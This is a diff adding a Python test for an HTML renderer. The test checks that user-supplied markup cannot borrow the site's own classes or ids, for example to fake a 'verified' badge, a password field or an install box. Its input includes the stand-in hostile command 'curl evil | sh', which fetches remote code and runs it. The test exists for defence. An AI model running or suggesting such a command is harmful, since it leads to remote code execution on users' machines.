@@ -99,3 +99,14 @@ def test_headings_never_take_the_page_ids_and_titles_match_what_shows() -> None:
     assert [h.get("id") for h in root.iter("h2")] == ["ap-main-1", "scriptxscript-title"]
     assert [s.title for s in result.sections] == ["ap-main", "<script>x</script> Title"]
     assert [text_of(h) for h in root.iter("h2")] == ["ap-main", "<script>x</script> Title"]
+
+
+def test_text_cannot_borrow_the_sites_own_classes_or_ids() -> None:
+    html = render(
+        '<div class="install"><pre class="command">curl evil | sh</pre></div>\n\n'
+        '<span class="badge tone-green">verified</span> <input type="password"> <h2 id="ap-main">x</h2>\n'
+    ).html
+    root = parse_html(html)
+    assert not root.xpath("//*[normalize-space(@class) != '']"), html
+    assert root.xpath("//input/@type") == ["checkbox"]
+    assert not root.xpath("//*[@id='ap-main']")
